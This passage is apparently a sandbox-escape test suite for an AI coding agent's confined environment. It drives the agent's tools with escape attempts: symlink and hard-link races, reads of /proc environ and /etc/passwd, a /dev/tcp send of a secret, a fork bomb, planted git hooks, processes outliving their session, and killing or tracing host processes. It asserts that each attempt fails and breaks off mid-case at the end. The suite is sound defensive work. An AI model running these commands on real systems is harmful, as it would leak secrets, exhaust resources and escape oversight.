// The escape suite: the agent's tools attacked the way a model would call them
// (registry.execute on the default confined environment), once inside
// bubblewrap and once without an OS sandbox. Every case plants a secret file
// and a secret environment variable outside the workspace and asserts that
// nothing escaped: the secret is in no tool output, and no file outside the
// workspace was created, changed or deleted. Without bubblewrap the bwrap
// cases are ignored under a name that says so; there, a refused shell counts
// as refused.
import assert from "node:assert/strict";
import { join, relative } from "node:path";
import { ConfinedEnvironment, type ConfinedEnvironmentOptions } from "./confined.ts";
import { usableBwrap } from "./bwrap.ts";
import { DefaultToolRegistry } from "../tools/registry.ts";
import { coreTools } from "../tools/core.ts";
import { webFetchTool } from "../tools/web_fetch.ts";
import { ScopedEnvironment } from "../session/scoped_env.ts";
import type { ExecutionEnvironment } from "./types.ts";
import { findExecutable } from "./system.ts";

const SECRET = `s3cr3t-${crypto.randomUUID()}`;
const SECRET_VAR = "FORGE_ESCAPE_TEST_SECRET";
Deno.env.set(SECRET_VAR, SECRET);
const hasBwrap = (await usableBwrap()) !== undefined;
// Some cases drive the kernel through perl (renames in a tight loop, a Unix socket server).
const needsPerl = () =>
  findExecutable(["/usr/bin/perl", "/bin/perl"]) ? undefined : "needs perl: not run, it is missing";
/** Processes a case planted outside (services on the host); stopped after each case. */
const servers: Deno.ChildProcess[] = [];

type Mode = "bwrap" | "none";

interface Attack {
  /** Parent of the workspace; holds secret.txt and keep/ (must not change). */
  readonly outside: string;
  readonly ws: string;
  readonly secretFile: string;
  readonly env: ExecutionEnvironment;
  readonly mode: Mode;
  /** Runs a tool as a model would; records its output. */
  tool(name: string, args: Record<string, unknown>, env?: ExecutionEnvironment): Promise<string>;
  shell(command: string, timeoutMs?: number): Promise<string>;
}

interface Case {
  readonly name: string;
  /** Done by the outside world before the session starts (planting links). */
  readonly plant?: (t: { outside: string; ws: string; secretFile: string }) => Promise<void>;
  readonly options?: Partial<ConfinedEnvironmentOptions>;
  readonly attack: (t: Attack) => Promise<void>;
  /** Why the case cannot run in `mode` here, if it cannot. */
  readonly notHere?: (mode: Mode) => string | undefined;
}

/** Every file under `dir` (not following links) with its content, except under `skip`. */
async function snapshot(dir: string, skip: string): Promise<Map<string, string>> {
  const out = new Map<string, string>();
  const visit = async (d: string) => {
    for await (const entry of Deno.readDir(d)) {
      const path = join(d, entry.name);
      if (path === skip) continue;
      const info = await Deno.lstat(path);
      if (info.isDirectory) {
        out.set(path, "dir");
        await visit(path);
      } else if (info.isSymlink) out.set(path, `link:${await Deno.readLink(path)}`);
      else out.set(path, `${info.mode}:${await Deno.readTextFile(path)}`);
    }
  };
  await visit(dir);
  return out;
}

function register(c: Case, mode: Mode): void {
  const reason = mode === "bwrap" && !hasBwrap
    ? "needs bwrap: not run, bubblewrap is unusable here"
    : c.notHere?.(mode);
  const ignore = reason !== undefined;
  Deno.test({
    name: `escape [${mode}] ${c.name}${reason ? ` (${reason})` : ""}`,
    ignore,
    async fn() {
      const outside = await Deno.realPath(await Deno.makeTempDir({ prefix: "forge-escape-" }));
      const ws = join(outside, "ws");
      await Deno.mkdir(join(ws, "sub"), { recursive: true });
      await Deno.mkdir(join(outside, "keep"));
      const secretFile = join(outside, "secret.txt");
      await Deno.writeTextFile(secretFile, `${SECRET}\n`);
      await Deno.writeTextFile(join(outside, "keep", "data.txt"), "unchanged\n");
      await Deno.writeTextFile(join(ws, "inside.txt"), "inside\n");
      await c.plant?.({ outside, ws, secretFile });
      const before = await snapshot(outside, ws);
      const env = new ConfinedEnvironment({
        workspace: ws,
        sandbox: mode,
        killGraceMs: 200,
        ...c.options,
      });
      const outputs: string[] = [];
      try {
        await env.initialize();
        const registry = new DefaultToolRegistry([
          ...coreTools({ applyPatch: true }),
          webFetchTool(),
        ]);
        const tool = async (
          name: string,
          args: Record<string, unknown>,
          on: ExecutionEnvironment = env,
        ) => {
          const result = await registry.execute(
            { name, arguments: args },
            { env: on, signal: new AbortController().signal, settings: { commandEnv: {} } },
          );
          outputs.push(result.fullContent ?? result.content);
          return result.fullContent ?? result.content;
        };
        const attack: Attack = {
          outside,
          ws,
          secretFile,
          env,
          mode,
          tool,
          shell: async (command, timeoutMs = 10_000) => {
            const out = await tool("shell", { command, timeout_ms: timeoutMs });
            if (mode === "none") assert.match(out, /no OS sandbox/, "the shell must be refused");
            return out;
          },
        };
        await c.attack(attack);
      } finally {
        await env.close();
        for (const server of servers.splice(0)) {
          server.kill("SIGKILL");
          await server.status;
        }
      }
      // Give anything that might have survived its call a moment to act.
      await new Promise((r) => setTimeout(r, 300));
      for (const out of outputs) {
        assert.ok(!out.includes(SECRET), `the secret reached a tool output:\n${out.slice(0, 500)}`);
      }
      const after = await snapshot(outside, ws);
      assert.deepEqual(
        after,
        before,
        "a file outside the workspace was created, changed or deleted",
      );
      await Deno.remove(outside, { recursive: true });
    },
  });
}

const cases: Case[] = [
  // 1. Check, then use.
  {
    name: "check-then-use: a concurrent shell swaps a file for a link while read_file reads it",
    async attack(t) {
      await t.tool("write_file", { file_path: "x", content: "plain" });
      const swapper = t.shell(
        `for i in $(seq 400); do ln -sfn ${t.secretFile} x.new; mv -T x.new x; echo plain > x.f; mv x.f x; done`,
        20_000,
      );
      for (let i = 0; i < 60; i++) await t.tool("read_file", { file_path: "x" });
      await swapper;
    },
  },
  {
    name: "check-then-use: grep and write_file race a link swap in a directory",
    async attack(t) {
      const swapper = t.shell(
        `for i in $(seq 300); do rm -rf d; mkdir d; echo a > d/f; rm -rf d; ln -sfn ${t.outside} d; done`,
        20_000,
      );
      for (let i = 0; i < 40; i++) {
        await t.tool("grep", { pattern: "s3cr3t", path: "." });
        await t.tool("write_file", { file_path: "d/keep/data.txt", content: "overwritten" });
      }
      await swapper;
    },
  },
  {
    name: "links planted outside-in: read, write, edit and grep through a symlink to the secret",
    async plant({ ws, secretFile, outside }) {
      await Deno.symlink(secretFile, join(ws, "link"));
      await Deno.symlink(outside, join(ws, "up"));
    },
    async attack(t) {
      await t.tool("read_file", { file_path: "link" });
      await t.tool("read_file", { file_path: "up/secret.txt" });
      await t.tool("grep", { pattern: ".", path: "up" });
      await t.tool("glob", { pattern: "**/*", path: "up" });
      await t.tool("write_file", { file_path: "up/keep/data.txt", content: "x" });
      await t.tool("edit_file", { file_path: "link", old_string: "s", new_string: "x" });
      await t.tool("write_file", { file_path: "up/new.txt", content: "x" });
      await t.tool("read_file", { file_path: t.secretFile });
      await t.tool("read_file", { file_path: "../secret.txt" });
    },
  },
  // 2. Hard links.
  {
    name: "hard link to the secret planted in the workspace: file tools and shell",
    async plant({ ws, secretFile }) {
      await Deno.link(secretFile, join(ws, "hard.txt"));
    },
    async attack(t) {
      await t.tool("read_file", { file_path: "hard.txt" });
      await t.tool("grep", { pattern: "s3cr3t", path: "." });
      await t.tool("edit_file", { file_path: "hard.txt", old_string: "s3", new_string: "xx" });
      await t.shell("cat hard.txt; cp hard.txt copy.txt; cat copy.txt; echo more >> hard.txt");
      await t.tool("read_file", { file_path: "copy.txt" });
      // Writing replaces the name with a new file; the other name keeps its content.
      await t.tool("write_file", { file_path: "hard.txt", content: "replaced" });
    },
  },
  {
    name: "hard links made inside the sandbox cannot reach outside",
    async attack(t) {
      await t.shell(`ln ${t.secretFile} h 2>&1; ln /proc/self/environ e 2>&1; cat h e`);
      await t.tool("read_file", { file_path: "h" });
    },
  },
  // 3. Shell state, program options, option spellings, `..` after links, cp + mv.
  {
    name: "builtins that change shell state (BASH_CMDS, HOME, CDPATH, OLDPWD, cd)",
    async attack(t) {
      await t.shell(`printf -v 'BASH_CMDS[ls]' /bin/cat; ls ${t.secretFile}`);
      await t.shell(`HOME=${t.outside}; cd; cat secret.txt; cd ${t.outside} && cat secret.txt`);
      await t.shell(`CDPATH=${t.outside}; cd keep && echo x > data.txt; cd ..; cat secret.txt`);
      await t.shell(`OLDPWD=${t.outside}; cd -; cat secret.txt; cd ..; cd ..; cat */secret.txt`);
    },
  },
  {
    name: "program options that run programs or read lists of files",
    async attack(t) {
      await t.shell(
        `printf 'b\\na\\n' > in; sort --compress-program=sh -S 1 in; sort --compress-p=cat in`,
      );
      await t.shell(
        `printf '${t.secretFile}\\0' > list; wc --files0-from=list; du --files0-from=list`,
      );
      await t.shell(`find . -files0-from list; find ${t.outside} -name secret.txt -exec cat {} +`);
      await t.shell(`file -m ${t.secretFile} in; file -f list; find ${t.outside}/keep -delete`);
      await t.shell(`tar -cf - --files-from=list | cat; xargs -a list cat`);
    },
  },
  {
    name: "abbreviated long options and arguments starting with -",
    async attack(t) {
      await t.shell(`grep --recurs s3cr3t ${t.outside}; grep --dereference-r s3cr3t .. 2>&1`);
      await t.shell(
        `cat -- ${t.secretFile}; cat -../secret.txt; cp -- ${t.secretFile} ./-x; cat ./-x`,
      );
      await t.shell(`sed -n p -- ${t.secretFile}; head --lines=5 -- ${t.secretFile}`);
    },
  },
  {
    name: "`..` after a symlink, resolved by the kernel rather than as text",
    async attack(t) {
      await t.shell(
        `mkdir -p a/b; ln -s a/b l; ln -s / root; cat l/../../../secret.txt; cat root${t.secretFile}`,
      );
      await t.tool("read_file", { file_path: "l/../../../secret.txt" });
      await t.tool("read_file", { file_path: `root${t.secretFile}` });
    },
  },
  {
    name: "links copied up a level with cp -P / cp -s and mv, then used by a scoped subagent",
    async attack(t) {
      await t.shell(
        `cd sub && ln -s ../../secret.txt s && cp -P s ../s2 && cp -s ${t.secretFile} ../s3; mv s ..`,
      );
      const scoped = new ScopedEnvironment(t.env, "sub");
      await t.tool("read_file", { file_path: "../s2" }, scoped);
      await t.tool("read_file", { file_path: "../s3" }, scoped);
      await t.tool("read_file", { file_path: "../s" }, scoped);
      await t.tool("shell", { command: "cat ../s ../s2 ../s3; cd .. && cat s s2 s3" }, scoped);
    },
  },
  {
    name: ".git stays read-only: a hook or config written now would run later, outside",
    async plant({ ws }) {
      await Deno.mkdir(join(ws, ".git", "hooks"), { recursive: true });
      await Deno.writeTextFile(join(ws, ".git", "config"), "[core]\n");
    },
    async attack(t) {
      await t.tool("write_file", {
        file_path: ".git/hooks/pre-commit",
        content: "#!/bin/sh\nid\n",
      });
      await t.tool("edit_file", {
        file_path: ".git/config",
        old_string: "[core]",
        new_string: "[core]\n\thooksPath = /tmp",
      });
      await t.shell(
        "echo 'cat /etc/passwd' > .git/hooks/post-checkout; chmod +x .git/hooks/*; echo '[alias]' >> .git/config; rm -rf .git; mv .git g",
      );
      assert.equal(await exists(join(t.ws, ".git", "hooks", "pre-commit")), false);
      assert.equal(await exists(join(t.ws, ".git", "hooks", "post-checkout")), false);
      assert.equal(await Deno.readTextFile(join(t.ws, ".git", "config")), "[core]\n");
    },
  },
  // 4. Lifetime.
  {
    name: "a setsid'd grandchild does not outlive its call",
    async attack(t) {
      await t.shell(
        `setsid sh -c 'sleep 0.5; echo late > ${t.ws}/late.txt' > /dev/null 2>&1 & echo started`,
      );
      await t.shell(
        `(setsid nohup sh -c 'sleep 0.5; echo late > ${t.ws}/late2.txt' &) ; sleep 5`,
        300,
      );
      await new Promise((r) => setTimeout(r, 1200));
      if (t.mode === "bwrap") {
        assert.equal(await exists(join(t.ws, "late.txt")), false, "a survivor wrote late.txt");
        assert.equal(await exists(join(t.ws, "late2.txt")), false, "a survivor wrote late2.txt");
      }
    },
  },
  // 5. Limits.
  {
    name: "disk flood stops at the file size limit with a clear error",
    options: { limits: { maxFileBytes: 1 << 20 } },
    async attack(t) {
      const out = await t.shell("head -c 50000000 /dev/zero > big; echo done");
      if (t.mode === "bwrap") {
        assert.match(out, /limit reached \(file_size\)/);
        assert.ok((await Deno.stat(join(t.ws, "big"))).size <= 1 << 20);
      }
    },
  },
  {
    name: "output flood is kept within the output limit with a clear error",
    options: { limits: { maxOutputBytes: 64 * 1024 } },
    async attack(t) {
      const out = await t.shell("head -c 20000000 /dev/zero | tr '\\0' y");
      if (t.mode === "bwrap") {
        assert.match(out, /limit reached \(output\)/);
        assert.ok(out.length < 200 * 1024, `kept ${out.length} chars`);
      }
    },
  },
  {
    name: "a fork bomb stops at the process limit with a clear error",
    options: { limits: { maxProcesses: 64 } },
    // RLIMIT_NPROC does not bind root: as root the bomb would run unbounded until its timeout.
    notHere: (mode) =>
      mode === "bwrap" && Deno.uid() === 0
        ? "needs a non-root user: not run, RLIMIT_NPROC does not bind root"
        : undefined,
    async attack(t) {
      const out = await t.shell("bomb() { bomb | bomb & }; bomb; sleep 2; echo survived", 4000);
      if (t.mode === "bwrap") assert.match(out, /limit reached \(processes\)/);
    },
  },
  {
    name: "a command past its time limit is killed with everything it started",
    async attack(t) {
      // A name of its own, so processes of other tests on this machine are not mistaken for ours.
      const marker = `forge-escape-${crypto.randomUUID().slice(0, 8)}`;
      const out = await t.shell(
        `(exec -a ${marker} sleep 30) & setsid bash -c 'exec -a ${marker} sleep 30' & ` +
          `echo x > ${t.ws}/t.txt; wait`,
        400,
      );
      if (t.mode === "bwrap") {
        assert.match(out, /timed out/);
        const ps = await new Deno.Command("pgrep", { args: ["-f", marker] }).output();
        assert.equal(new TextDecoder().decode(ps.stdout).trim(), "", "a sleeper survived");
      }
    },
  },
  // Environment secrets and the host's processes.
  {
    name: "environment secrets: env, /proc/*/environ, the parent's environment",
    async attack(t) {
      await t.shell(`env; cat /proc/self/environ; cat /proc/1/environ; cat /proc/$PPID/environ`);
      await t.shell(
        `for p in /proc/[0-9]*; do cat $p/environ $p/cmdline 2>/dev/null; done | tr '\\0' '\\n'`,
      );
      await t.shell(`ls /proc/*/root/ 2>&1; cat /proc/1/root${t.secretFile} 2>&1`);
      await t.tool("read_file", { file_path: "/proc/self/environ" });
    },
  },
  {
    name: "the host filesystem is not there: home, /etc, the agent's files",
    async attack(t) {
      await t.shell(
        `ls / /etc /home /root 2>&1; cat /etc/passwd /etc/hostname 2>&1; ls ${t.outside}`,
      );
      await t.shell(
        `echo x > ${t.outside}/keep/data.txt; touch ${t.outside}/new; rm -rf ${t.outside}/keep`,
      );
      await t.shell(`mount -t tmpfs none /mnt 2>&1; unshare -r cat ${t.secretFile} 2>&1`);
    },
  },
  // Network.
  {
    name: "no network inside the sandbox: a loopback listener outside hears nothing",
    async attack(t) {
      const listener = Deno.listen({ hostname: "127.0.0.1", port: 0 });
      const port = (listener.addr as Deno.NetAddr).port;
      let accepted = false;
      const accepting = (async () => {
        for await (const conn of listener) {
          accepted = true;
          conn.close();
        }
      })();
      await t.shell(
        `echo ${"$"}${SECRET_VAR} > /dev/tcp/127.0.0.1/${port} 2>&1; cat /etc/hosts 2>&1`,
      );
      listener.close();
      await accepting.catch(() => {});
      assert.equal(accepted, false, "the sandbox reached a loopback listener");
    },
  },
  {
    name: "web_fetch: a disallowed host and a redirect to one are refused",
    async attack(t) {
      await using target = Deno.serve(
        { hostname: "127.0.0.1", port: 0, onListen() {} },
        () => new Response(SECRET),
      );
      await using redirector = Deno.serve(
        { hostname: "127.0.0.1", port: 0, onListen() {} },
        () => Response.redirect(`http://localhost:${target.addr.port}/`, 302),
      );
      const env = new ConfinedEnvironment({
        workspace: t.ws,
        sandbox: t.mode,
        allowedHosts: [`127.0.0.1:${redirector.addr.port}`],
      });
      await env.initialize();
      try {
        const direct = await t.tool(
          "web_fetch",
          { url: `http://127.0.0.1:${target.addr.port}/` },
          env,
        );
        assert.match(direct, /not allowed/);
        const redirected = await t.tool("web_fetch", {
          url: `http://127.0.0.1:${redirector.addr.port}/`,
        }, env);
        assert.match(redirected, /redirect from 127\.0\.0\.1.*not allowed/);
      } finally {
        await env.close();
      }
    },
  },
  // The attack pass of 2026-12-02: what an outside attack suite tries next.
  {
    name: "inherited descriptors: a command holds nothing but its stdio",
    async attack(t) {
      // Whatever the agent was started with (here: any descriptor its own parent leaked).
      const out = await t.shell("ls /proc/self/fd /proc/1/fd 2>&1 | grep -v :");
      if (t.mode === "bwrap") {
        const fds = out.split("\n").filter((line) => /^\d+$/.test(line)).map(Number);
        // 0-2 are stdio and 3 is ls's own listing of the directory; bwrap's init keeps an eventfd.
        assert.deepEqual(fds.filter((fd) => fd > 4), [], `descriptors leaked in:\n${out}`);
      }
    },
  },
  {
    name: "/proc/sys and /proc/sysrq-trigger are read-only, even for root without capabilities",
    async attack(t) {
      // Only `test -w` on the global ones: a write there would change the host.
      const out = await t.shell(
        "for f in /proc/sys/kernel/core_pattern /proc/sys/kernel/modprobe /proc/sys/vm/drop_caches " +
          "/proc/sys/kernel/panic /proc/sys/fs/suid_dumpable /proc/sysrq-trigger; do " +
          "[ -e $f ] && [ -w $f ] && echo WRITABLE $f; done; " +
          // The hostname is the sandbox's own (a UTS namespace): safe to try for real.
          "echo pwned > /proc/sys/kernel/hostname; hostname",
      );
      if (t.mode === "bwrap") {
        assert.doesNotMatch(out, /WRITABLE/);
        assert.match(out, /hostname: Read-only file system/);
        assert.doesNotMatch(out, /^pwned$/m);
      }
    },
  },
  {
    name: "a hard-linked file stays hidden after its directories are renamed or removed",
    async plant({ ws, secretFile }) {
      await Deno.mkdir(join(ws, "sub", "deep"), { recursive: true });
      await Deno.link(secretFile, join(ws, "sub", "deep", "hard.txt"));
      // As `git clone --local` leaves packs: hard links inside the protected .git.
      await Deno.mkdir(join(ws, ".git", "objects", "pack"), { recursive: true });
      await Deno.link(secretFile, join(ws, ".git", "objects", "pack", "p.pack"));
    },
    async attack(t) {
      await t.shell(
        "mv sub sub2; mv sub/deep sub/d2; mv sub/deep/hard.txt h; rm -rf sub; " +
          "ln sub/deep/hard.txt h2; cp -a sub s3; mv .git/objects o; echo x > .git/objects/new",
      );
      await t.shell("cat sub2/deep/hard.txt sub/d2/hard.txt h h2 o/pack/p.pack 2>&1");
      await t.shell("find . -type f -exec cat {} + 2>&1; cat .git/objects/pack/p.pack 2>&1");
      await t.tool("read_file", { file_path: "sub/deep/hard.txt" });
      await t.tool("grep", { pattern: "s3cr3t", path: "." });
      if (t.mode === "bwrap") {
        assert.equal(await exists(join(t.ws, ".git", "objects", "new")), false);
        assert.equal(await exists(join(t.ws, "sub", "deep", "hard.txt")), true);
      }
    },
  },
  {
    name: "a hard-linked file moved by the environment's moveFile stays hidden at its new path",
    async plant({ ws, secretFile }) {
      await Deno.mkdir(join(ws, "sub", "deep"), { recursive: true });
      await Deno.link(secretFile, join(ws, "sub", "deep", "hard.txt"));
      await Deno.link(secretFile, join(ws, "lone.txt"));
    },
    async attack(t) {
      // The file server has no masks: the method (not a tool) moves what the shell may not see.
      await t.env.moveFile("sub", "moved").catch(() => {});
      await t.env.moveFile("lone.txt", "moved/lone2.txt").catch(() => {});
      await t.shell(
        "cat moved/deep/hard.txt moved/lone2.txt 2>&1; find . -type f -exec cat {} + 2>&1",
      );
    },
  },
  {
    name: "a hard-linked file stays hidden while a concurrent command renames its directory",
    notHere: needsPerl,
    async plant({ ws, secretFile }) {
      await Deno.mkdir(join(ws, "d"));
      await Deno.link(secretFile, join(ws, "d", "hard.txt"));
    },
    async attack(t) {
      // The renamer tries to move d away just as each reader's sandbox is built.
      const renamer = t.shell(
        `perl -e 'for (1..200000) { rename "d", "e"; rename "e", "d"; }' 2>&1`,
        20_000,
      );
      for (let i = 0; i < 15; i++) await t.shell("cat d/hard.txt e/hard.txt 2>&1");
      await renamer;
    },
  },
  {
    name:
      "a masked file's directory swapped for a link into a read-only path gets no writable bind",
    // Not under /tmp: the sandbox's own /tmp covers read-only paths there.
    notHere: () => writableDir("/var/tmp") ? undefined : "needs a writable /var/tmp: not run",
    async attack(t) {
      // A read-only path holding a directory with a hard-linked file f.
      const ro = await Deno.realPath(
        await Deno.makeTempDir({ dir: "/var/tmp", prefix: "forge-ro-" }),
      );
      await Deno.mkdir(join(ro, "dir"));
      await Deno.writeTextFile(join(ro, "dir", "f"), "read-only\n");
      await Deno.link(join(ro, "dir", "f"), join(ro, "dir", "f2"));
      // Planted before the session starts: masked, so sub is bound onto itself while it is.
      await Deno.link(t.secretFile, join(t.ws, "sub", "f"));
      await Deno.mkdir(join(t.ws, "other"));
      await Deno.writeTextFile(join(t.ws, "other", "f"), "twice\n");
      await Deno.link(join(t.ws, "other", "f"), join(t.ws, "other.f"));
      const before = await snapshot(ro, "");
      const env = new ConfinedEnvironment({
        workspace: t.ws,
        sandbox: t.mode,
        killGraceMs: 200,
        readOnlyPaths: [ro],
      });
      try {
        await env.initialize();
        const shell = (command: string) => t.tool("shell", { command }, env);
        // One link now: no mask, so sub is no mount point in the next command and can go.
        await t.tool("write_file", { file_path: "sub/f", content: "replaced" }, env);
        await shell(`rm -r sub && ln -s ${relative(t.ws, ro)}/dir sub; ls -la sub/ 2>&1`);
        // sub/f now names the read-only f (two links): sub must not be bound onto itself.
        const out = await shell(
          `echo pwned > ${ro}/dir/new 2>&1; echo pwned > sub/new2 2>&1; ` +
            `echo pwned >> ${ro}/dir/f2 2>&1; echo pwned >> sub/f 2>&1; echo done`,
        );
        await shell(`echo pwned > ${ro}/dir/new3 2>&1; touch sub/new4 2>&1; cat sub/f 2>&1`);
        // The same swap by the file server (no mounts there), with no command in between.
        await shell(`ln -s ${relative(t.ws, ro)}/dir l`);
        await env.moveFile("other", "other2").catch(() => {});
        await env.moveFile("l", "other").catch(() => {});
        await shell(`echo pwned > ${ro}/dir/new5 2>&1; echo pwned > other/new6 2>&1`);
        assert.deepEqual(await snapshot(ro, ""), before, "the read-only path was written");
        if (t.mode === "bwrap") assert.match(out, /Read-only file system/);
      } finally {
        await env.close();
        await Deno.remove(ro, { recursive: true });
      }
    },
  },
  {
    name: "a Unix socket in the workspace, served by a process outside, cannot be reached",
    notHere: needsPerl,
    async plant({ ws }) {
      // A service on the host (a database, a container daemon) that put its socket here.
      const server = new Deno.Command("perl", {
        args: [
          "-MIO::Socket::UNIX",
          "-e",
          "$l = IO::Socket::UNIX->new(Type => SOCK_STREAM(), Local => $ARGV[0], Listen => 5) or die; " +
          'open(R, ">", "$ARGV[0].ready"); close R; ' +
          'while ($c = $l->accept) { print $c "$ARGV[1]\\n"; close $c }',
          join(ws, "db.sock"),
          SECRET,
        ],
        stdout: "null",
        stderr: "null",
      }).spawn();
      servers.push(server);
      while (!(await exists(join(ws, "db.sock.ready")))) {
        await new Promise((r) => setTimeout(r, 20));
      }
    },
    async attack(t) {
      await t.shell(
        `perl -MIO::Socket::UNIX -e '$s = IO::Socket::UNIX->new(Peer => "db.sock") ` +
          `or die "refused: $!\\n"; print <$s>' 2>&1; ls -la; mv db.sock s2 2>&1`,
      );
      await t.tool("read_file", { file_path: "db.sock" });
      await t.tool("grep", { pattern: ".", path: "." });
    },
  },
  {
    name: "the shell cannot signal or trace a process outside the sandbox",
    async attack(t) {
      const sentinel = new Deno.Command("sleep", { args: ["30"] }).spawn();
      let killed = false;
      sentinel.status.then(() => killed = true);
      try {
        const pid = sentinel.pid;
        await t.shell(
          `kill -9 ${pid} ${Deno.pid} 2>&1; kill -STOP ${pid} 2>&1; ` +
            `cat /proc/${pid}/environ /proc/${Deno.pid}/environ 2>&1; ` +
            `timeout 2 strace -p ${pid} 2>&1 | head -3; timeout 2 gdb -batch -p ${Deno.pid} 2>&1 | head -3; ` +
            "kill -9 -1 2>&1; echo done",
        );
        await new Promise((r) => setTimeout(r, 200));
        assert.equal(killed, false, "the shell killed a process outside the sandbox");
        const state = await Deno.readTextFile(`/proc/${pid}/stat`).catch(() => "");
        assert.doesNotMatch(state.split(") ")[1] ?? "", /^T/, "the shell stopped it");
      } finally {
        sentinel.kill("SIGKILL");
        await sentinel.status;
      }
    },
  },
  {
    name:
      "/proc/self/root, /proc/self/cwd, /dev/fd and a parent's environ: by path and by planted link",
    async plant({ ws }) {
      await Deno.symlink("/proc/self/root", join(ws, "r"));
      await Deno.symlink("/proc/self/cwd", join(ws, "c"));
      await Deno.symlink("/dev/fd", join(ws, "fd"));
      await Deno.symlink(`/proc/${Deno.pid}/environ`, join(ws, "pe"));
      await Deno.symlink("/proc/self/environ", join(ws, "se"));
    },
    async attack(t) {
      for (
        const path of [
          `r${t.secretFile}`,
          `/proc/self/root${t.secretFile}`,
          `/proc/self/cwd/../secret.txt`,
          `c/../secret.txt`,
          "pe",
          "se",
          `/proc/${Deno.pid}/environ`,
          `/proc/${Deno.ppid}/environ`,
          "fd/0",
          "/dev/fd/0",
        ]
      ) await t.tool("read_file", { file_path: path });
      await t.tool("grep", { pattern: "s3cr3t|FORGE_ESCAPE", path: "r" + t.outside });
      await t.tool("glob", { pattern: "**/secret.txt", path: "r" + t.outside });
      await t.tool("write_file", { file_path: `r${t.outside}/keep/data.txt`, content: "x" });
      await t.tool("write_file", { file_path: "c/../keep/data.txt", content: "x" });
      await t.shell(
        `cat r${t.secretFile} /proc/self/root${t.secretFile} /proc/1/root${t.secretFile} pe se 2>&1; ` +
          `ls -la /proc/self/cwd/.. /dev/fd/ 2>&1; cat /proc/${Deno.pid}/environ 2>&1`,
      );
    },
  },
  {
    name: "file names with NUL, newlines, look-alike dots and a leading dash",
    async attack(t) {
      for (
        const path of [
          "inside.txt\0../../secret.txt",
          "\0/../secret.txt",
          "\u2024\u2024/secret.txt", // one-dot leaders, not ".."
          "\uff0e\uff0e/secret.txt", // fullwidth full stops
          ". ./secret.txt",
          "..\\secret.txt",
          "sub/\n/../../../secret.txt",
        ]
      ) {
        await t.tool("read_file", { file_path: path });
        await t.tool("write_file", { file_path: path, content: "x" });
      }
      // A name that reads like a path in a listing, and one that reads like an option.
      await t.tool("write_file", { file_path: "a\n../../secret.txt", content: "a" });
      await t.tool("write_file", { file_path: "-rf", content: "dash" });
      const listed = await t.tool("glob", { pattern: "**/*" });
      for (const line of listed.split("\n")) await t.tool("read_file", { file_path: line });
      await t.tool("grep", { pattern: ".", path: "." });
      await t.shell(`touch $'b\\n..\\n..\\nsecret.txt'; for f in *; do cat -- "$f"; done 2>&1`);
    },
  },
  {
    name: "glob and grep patterns and roots that point outside walk nothing there",
    async plant({ ws, outside }) {
      await Deno.symlink(outside, join(ws, "up"));
    },
    async attack(t) {
      for (
        const pattern of [
          "../**",
          "../*.txt",
          "/**/secret.txt",
          `${t.outside}/**`,
          "**/../../secret.txt",
          "up/**",
          "{..,.}/*",
        ]
      ) {
        await t.tool("glob", { pattern });
        await t.tool("grep", { pattern: "s3cr3t", glob_filter: pattern });
      }
      for (
        const path of ["..", "/", t.outside, "up", "up/", "up/..", "sub/../..", "/proc/self/root"]
      ) {
        await t.tool("glob", { pattern: "**/*", path });
        await t.tool("grep", { pattern: "s3cr3t", path });
      }
      // Links the agent makes itself, then searches through.
      await t.shell(`ln -s / rootlink; ln -s ${t.outside} up2; ln -s ../.. sub/upup`);
      for (const path of ["rootlink", "up2", "sub/upup", "."]) {
        await t.tool("grep", { pattern: "s3cr3t", path });
        await t.tool("glob", { pattern: "**/secret.txt", path });
      }
    },
  },
  {
    name: "FIFOs and devices: read_file refuses them and the file service keeps answering",
    async plant({ ws }) {
      const made = await new Deno.Command("mkfifo", { args: [join(ws, "fifo")] }).output();
      assert.ok(made.success, "mkfifo");
      await Deno.symlink("/dev/zero", join(ws, "zero"));
    },
    async attack(t) {
      await t.shell("mkfifo fifo2; ln -s /dev/urandom rnd; ln -s /dev/stdin in");
      for (const path of ["fifo", "fifo2", "zero", "rnd", "in", "/dev/zero"]) {
        await t.tool("read_file", { file_path: path });
      }
      await t.tool("grep", { pattern: "x", path: "." });
      const after = await t.tool("read_file", { file_path: "inside.txt" });
      assert.match(after, /inside/, "the file service stopped answering");
    },
  },
  {
    name: "grep over huge one-line files: each matched line is cut and the answer stays small",
    async plant({ ws }) {
      const line = new Uint8Array(4_000_000).fill(0x61);
      for (let i = 0; i < 20; i++) await Deno.writeFile(join(ws, `big${i}.txt`), line);
    },
    async attack(t) {
      const result = await t.env.grep("a", ".", { maxResults: 100 });
      assert.equal(result.matches.length, 20);
      for (const match of result.matches) {
        assert.ok(match.text.length < 2100, `a match of ${match.text.length} characters`);
        assert.match(match.text, /\[… 3998000 more characters on this line\]$/);
      }
      // The full output, before the tool's own truncation: 20 lines of ~2 KB, not 80 MB.
      assert.ok((await t.tool("grep", { pattern: "a" })).length < 100_000);
    },
  },
  {
    name: "a memory hog stops at the address-space limit with a clear error",
    notHere: needsPerl,
    options: { limits: { maxMemoryBytes: 256 << 20 } },
    async attack(t) {
      const out = await t.shell(`perl -e '$x = "x" x 1000000000; print length $x'`);
      if (t.mode === "bwrap") assert.match(out, /limit reached \(memory\)/);
    },
  },
  {
    name: "a cancelled command is killed with everything it started",
    async attack(t) {
      const marker = `forge-cancel-${crypto.randomUUID().slice(0, 8)}`;
      const controller = new AbortController();
      setTimeout(() => controller.abort(), 400);
      const run = t.env.execCommand({
        command: `(exec -a ${marker} sleep 30) & setsid bash -c 'exec -a ${marker} sleep 30' & ` +
          `nohup bash -c 'exec -a ${marker} sleep 30' & wait`,
        timeoutMs: 20_000,
        signal: controller.signal,
      });
      const error = await run.then(() => undefined, (e) => e);
      assert.ok(error, "the command was not cancelled");
      if (t.mode === "bwrap") {
        assert.equal(error.code, "Aborted");
        await new Promise((r) => setTimeout(r, 300));
        const ps = await new Deno.Command("pgrep", { args: ["-f", marker] }).output();
        assert.equal(new TextDecoder().decode(ps.stdout).trim(), "", "a sleeper survived");
      }
    },
  },
  {
    name: "one huge line and a stderr flood stay within the output limit",
    options: { limits: { maxOutputBytes: 64 * 1024 } },
    async attack(t) {
      const out = await t.shell(
        "head -c 30000000 /dev/zero | tr '\\0' y; head -c 30000000 /dev/zero | tr '\\0' z >&2",
      );
      if (t.mode === "bwrap") {
        assert.match(out, /limit reached \(output\)/);
        assert.ok(out.length < 300 * 1024, `kept ${out.length} chars`);
      }
    },
  },
  {
    name: "a flood streamed to a slow reader stops at the output limit too",
    options: { limits: { maxOutputBytes: 64 * 1024 } },
    async attack(t) {
      // A subscriber that never reads holds every chunk it is given.
